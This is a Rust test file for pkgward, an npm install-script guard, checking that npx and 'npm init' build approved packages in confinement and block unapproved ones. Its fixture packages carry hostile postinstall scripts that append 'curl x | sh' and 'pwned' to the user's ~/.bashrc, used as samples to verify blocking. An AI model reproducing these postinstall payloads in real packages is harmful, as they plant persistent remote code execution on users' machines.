//! `npx` / `npm init NAME` without the npm broker (as on macOS and
//! Windows; here the broker cannot listen: pkgward's temp directory has a
//! path too long for a Unix socket): pkgward prepares npx's directory
//! before npx runs — the real npm installs into it with scripts off, the
//! approved packages are built there, confined, the others recorded and
//! listed — and npx then runs its command from that directory.

mod support;

use std::path::PathBuf;
use std::sync::OnceLock;

use support::guard::{text, to_env, Guarded};
use support::{js_marker, shared, NpmPackage};

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        // Like esbuild: its postinstall makes what its bin needs (in its
        // own directory) and tries to write outside it.
        let build = format!(
            "{marker}\
             fs.writeFileSync(path.join(__dirname, 'built.js'), 'module.exports = \"built\";\\n');\n\
             let rc = 'written';\n\
             try {{ fs.appendFileSync(path.join(require('os').homedir(), '.bashrc'), 'pwned\\n'); }} catch (e) {{ rc = 'blocked'; }}\n\
             fs.writeFileSync(path.join(dir, 'tool-bashrc'), rc);\n",
            marker = js_marker("tool-postinstall"),
        );
        r.publish_npm(
            &NpmPackage::new("pw-npxp-tool", "1.0.0")
                .script("postinstall", "node build.js")
                .file("build.js", build)
                .field("bin", serde_json::json!({ "pw-npxp-tool": "bin.js" }))
                .executable(
                    "bin.js",
                    "#!/usr/bin/env node\n\
                     if (process.argv[2] === 'exit3') process.exit(3);\n\
                     if (process.argv[2] === 'stdin') return process.stdin.pipe(process.stdout);\n\
                     console.log('pw-npxp-tool says ' + require('./built.js') + ' ' + process.argv.slice(2).join(' '));\n",
                ),
        );
        r.publish_npm(
            &NpmPackage::new("create-pw-npxp", "1.0.0")
                .dep("pw-npxp-tool", "^1.0.0")
                .field("bin", serde_json::json!({ "create-pw-npxp": "init.js" }))
                .executable(
                    "init.js",
                    "#!/usr/bin/env node\nconsole.log('init says ' + require('pw-npxp-tool/built.js'));\n",
                ),
        );
        let evil = format!(
            "{marker}\
             try {{ fs.appendFileSync(path.join(require('os').homedir(), '.bashrc'), 'curl x | sh\\n'); }} catch (e) {{}}\n",
            marker = js_marker("evil-postinstall"),
        );
        r.publish_npm(
            &NpmPackage::new("pw-npxp-evil", "1.0.0")
                .script("postinstall", "node evil.js")
                .file("evil.js", evil),
        );
        r.publish_npm(
            &NpmPackage::new("pw-npxp-app", "1.0.0")
                .dep("pw-npxp-evil", "^1.0.0")
                .field("bin", serde_json::json!({ "pw-npxp-app": "app.js" }))
                .executable("app.js", "#!/usr/bin/env node\nconsole.log('app ran');\n"),
        );
        r.publish_npm(
            &NpmPackage::new("pw-npxp-fail", "1.0.0")
                .script("postinstall", "echo failing >&2; exit 3")
                .field("bin", serde_json::json!({ "pw-npxp-fail": "bin.js" }))
                .executable("bin.js", "#!/usr/bin/env node\nconsole.log('fail ran');\n"),
        );
    });
}

struct T {
    g: Guarded,
    /// pkgward's temp directory: too long a path for the broker's socket.
    tmp: String,
}

fn setup(allow: &[&str]) -> T {
    setup_with(allow, "")
}

/// `scripts`: more of the policy's `[scripts]`.
fn setup_with(allow: &[&str], scripts: &str) -> T {
    fixtures();
    let allow: Vec<String> = allow.iter().map(|a| format!("\"npm:{a}\"")).collect();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\n[scripts]\nallow = [{}]\n{scripts}",
        shared().npm_url(),
        allow.join(", ")
    );
    let g = Guarded::new(&policy);
    std::fs::write(g.sb.home.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(
        g.sb.work.join("package.json"),
        r#"{"name":"pw-app","version":"0.1.0","private":true}"#,
    )
    .unwrap();
    let tmp = g.sb.root().join("t".repeat(120));
    std::fs::create_dir_all(&tmp).unwrap();
    let tmp = tmp.to_str().unwrap().to_string();
    T { g, tmp }
}

impl T {
    /// A shim (`npx`, `npm`) without the broker.
    fn run(&self, tool: &str, args: &[&str]) -> std::process::Output {
        self.run_with_input(tool, args, b"")
    }

    fn run_with_input(&self, tool: &str, args: &[&str], input: &[u8]) -> std::process::Output {
        let g = &self.g;
        let env = [
            g.sb.npm_env(&shared().npm_url()),
            g.pkgward_env(),
            to_env(&[("TMPDIR", self.tmp.as_str())]),
        ];
        let mut child =
            g.sb.command(g.shims.join(tool), &env)
                .args(args)
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), input).unwrap();
        child.wait_with_output().unwrap()
    }

    fn scripts(&self) -> Vec<serde_json::Value> {
        self.g
            .audit()
            .into_iter()
            .filter(|r| r["kind"] == "script")
            .collect()
    }

    fn npx_dirs(&self) -> Vec<PathBuf> {
        match std::fs::read_dir(self.g.sb.root().join("npm-cache/_npx")) {
            Ok(d) => d.flatten().map(|e| e.path()).collect(),
            Err(_) => Vec::new(),
        }
    }

    fn bashrc(&self) -> String {
        std::fs::read_to_string(self.g.sb.home.join(".bashrc")).unwrap()
    }
}

#[test]
fn npx_builds_an_approved_package_confined_before_its_command_runs() {
    let t = setup(&["pw-npxp-tool"]);
    let o = t.run("npx", &["--yes", "pw-npxp-tool", "hello", "world"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npx failed: {err}");
    // The bin found what the postinstall built, and npx's stdout is the
    // bin's alone (npm's and the build's output went to stderr).
    assert_eq!(
        text(&o.stdout),
        "pw-npxp-tool says built hello world\n",
        "{err}"
    );
    assert_eq!(t.g.sb.marker("tool-postinstall").as_deref(), Some("ran\n"));
    // Confined: no write outside npx's directory.
    assert_eq!(t.g.sb.marker("tool-bashrc").as_deref(), Some("blocked"));
    assert_eq!(t.bashrc(), "# rc\n");
    // npx reused the prepared directory: nothing it installed itself.
    assert!(!err.contains("npx did not build"), "{err}");
    assert!(!err.contains("install-time code not run"), "{err}");
    let inv = t.g.last_invocation();
    let recs = t.scripts();
    assert_eq!(recs.len(), 1, "{recs:#?}");
    let r = &recs[0];
    assert_eq!(r["package"], "pw-npxp-tool");
    assert_eq!(r["invocation_id"], inv["invocation_id"]);
    assert_eq!(r["decision"], "approved");
    assert_eq!(r["ran"], true);
    assert_eq!(r["exit_code"], 0);
    assert!(r["duration_ms"].as_f64().is_some(), "{r}");
    assert_eq!(r["runner"][1], "rebuild", "{r}");
    assert_eq!(r["path"], "node_modules/pw-npxp-tool");
    assert!(r["sandbox"]["layers"].is_array(), "{r}");
    // One npx directory, kept: the next run reuses it as it is.
    assert_eq!(t.npx_dirs().len(), 1);
    // The bin's exit code is npx's.
    let o = t.run("npx", &["--yes", "pw-npxp-tool", "exit3"]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "");
    // The command's stdin is its own (the preparing npm reads none).
    let o = t.run_with_input("npx", &["--yes", "pw-npxp-tool", "stdin"], b"piped\n");
    assert_eq!(text(&o.stdout), "piped\n", "{}", text(&o.stderr));
    // A version, a tag, a range (each its own npx directory): npm finds
    // the prepared one installed (a range it reads again without replacing
    // what was built).
    for spec in [
        "pw-npxp-tool@1.0.0",
        "pw-npxp-tool@latest",
        "pw-npxp-tool@^1.0.0",
    ] {
        let o = t.run("npx", &["--yes", spec, "again"]);
        let err = text(&o.stderr);
        assert!(o.status.success(), "{spec}: {err}");
        assert_eq!(
            text(&o.stdout),
            "pw-npxp-tool says built again\n",
            "{spec}: {err}"
        );
        assert!(!err.contains("npx did not build"), "{spec}: {err}");
    }
    assert_eq!(t.npx_dirs().len(), 4);
}

#[test]
fn npm_init_builds_the_initializers_approved_dependency() {
    let t = setup(&["create-pw-npxp", "pw-npxp-tool"]);
    let o = t.run("npm", &["init", "--yes", "pw-npxp"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    // (After npm's own banner, which `npm init` prints.)
    let out = text(&o.stdout);
    assert!(out.ends_with("init says built\n"), "{out}\n{err}");
    assert_eq!(t.g.sb.marker("tool-bashrc").as_deref(), Some("blocked"));
    let recs = t.scripts();
    let r = recs
        .iter()
        .find(|r| r["package"] == "pw-npxp-tool")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert_eq!(r["ran"], true);
    assert_eq!(r["path"], "node_modules/pw-npxp-tool");
}

/// With an approval pkgward prepares npx's directory and decides it
/// before npx runs; with none (`exec = "allow"`) there is nothing to build
/// and npx installs itself: what it installed is decided after it. Either
/// way the unapproved dependency's script does not run and is listed and
/// recorded once.
#[test]
fn npx_does_not_run_an_unapproved_dependency_and_lists_it() {
    for (t, prepared) in [
        (setup(&["pw-npxp-app"]), true),
        (setup_with(&[], "exec = \"allow\"\n"), false),
    ] {
        unapproved_dependency(&t, prepared);
    }
}

fn unapproved_dependency(t: &T, prepared: bool) {
    let o = t.run("npx", &["--yes", "pw-npxp-app"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npx failed: {err}");
    assert_eq!(text(&o.stdout), "app ran\n", "{err}");
    assert_eq!(t.g.sb.marker("evil-postinstall"), None, "{err}");
    assert_eq!(t.bashrc(), "# rc\n");
    assert!(
        err.contains("approve: pkgward approve npm:pw-npxp-evil@1.0.0"),
        "{err}"
    );
    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
    // (The directory pkgward prepared: how to have it built once approved.)
    assert_eq!(err.contains("npm cache npx rm "), prepared, "{err}");
    let inv = t.g.last_invocation();
    let recs = t.scripts();
    assert_eq!(recs.len(), 1, "{recs:#?}");
    let r = &recs[0];
    assert_eq!(r["package"], "pw-npxp-evil");
    assert_eq!(r["invocation_id"], inv["invocation_id"]);
    assert_eq!(r["decision"], "deny");
    assert_eq!(r["ran"], false);
    assert_eq!(r["path"], "node_modules/pw-npxp-evil");
}

#[test]
fn a_failing_approved_build_fails_npx_before_its_command() {
    let t = setup(&["pw-npxp-fail"]);
    let o = t.run("npx", &["--yes", "pw-npxp-fail"]);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(3), "{err}");
    assert!(err.contains("failing"), "{err}");
    // The command did not run, and the half-built directory is gone.
    assert_eq!(text(&o.stdout), "");
    assert!(t.npx_dirs().is_empty(), "{:?}", t.npx_dirs());
    let recs = t.scripts();
    let r = recs
        .iter()
        .find(|r| r["package"] == "pw-npxp-fail")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert_eq!(r["ran"], true);
    assert_eq!(r["exit_code"], 3);
}
